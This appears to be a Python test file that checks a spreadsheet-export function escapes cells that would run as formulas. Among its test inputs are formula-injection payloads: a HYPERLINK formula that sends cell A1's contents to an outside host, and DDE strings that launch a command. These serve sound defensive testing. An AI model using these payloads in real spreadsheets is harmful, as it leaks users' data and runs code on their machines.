"""Tables that a spreadsheet shows and does not run."""

import csv
import io
import re

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from osiris_nlp.base.spreadsheets import read_cell, write_table

NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
FORMULA = ("=", "+", "-", "@", "\0", "＝")

CELLS = st.text(st.sampled_from("'=+-@\t\r\n\0＝;,\" aé1"), max_size=6)


def written(*cells: object) -> list[str]:
    """Return the cells of one row as a reader of CSV finds them."""
    stream = io.StringIO(newline="")
    write_table(stream, [cells])
    (row,) = csv.reader(io.StringIO(stream.getvalue(), newline=""))
    return row


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://exemple.sn/?"&A1,"clic")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "+1-1",
        "\t=1+1",
        "\n=1+1",
        "＝1+1",
        "- 20 % sur la fibre à Kolda",
    ],
)
def test_a_title_that_would_run_as_a_formula_is_written_as_text(title: str) -> None:
    assert [read_cell(cell) for cell in written(title, "Wave")] == [title, "Wave"]
    assert written(title, "Wave")[0].startswith("'")


def test_a_string_of_numpy_is_a_string() -> None:
    assert written(np.str_("=1+1"), "Wave") == ["'=1+1", "Wave"]


@pytest.mark.parametrize(
    "cell", ["L’Artp", "5G", "-3", "+4,5", "-0.25", "'ndeye'", "", -3, 0.5, None, True]
)
def test_other_cells_are_written_as_they_are(cell: object) -> None:
    assert written(cell, "x") == ["" if cell is None else str(cell), "x"]


@given(st.lists(CELLS, min_size=2, max_size=4))
@example(["=1", "'=1"])
def test_every_cell_comes_back_as_it_was_and_none_begins_a_formula(cells: list[str]) -> None:
    row = written(*cells)

    assert list(map(read_cell, row)) == cells
    plain = [cell for cell in row if not NUMBER.fullmatch(cell)]
    assert not any(cell.startswith((*FORMULA, "\t", "\r", "\n")) for cell in plain)


@pytest.mark.parametrize("separator", [";", "\t"])
@given(st.lists(CELLS, min_size=2, max_size=4))
@example(["La fibre;=cmd|' /C calc'!A0;\n=2+2", "Wave"])
def test_no_cell_begins_a_formula_where_a_spreadsheet_splits_otherwise(
    separator: str, cells: list[str]
) -> None:
    stream = io.StringIO(newline="")
    write_table(stream, [["id", *cells]])

    for line in re.split(r"[\r\n]+", stream.getvalue()):
        parts = [part for part in line.split(separator) if not NUMBER.match(part)]
        assert not any(part.lstrip("\t").startswith(FORMULA) for part in parts[1:])
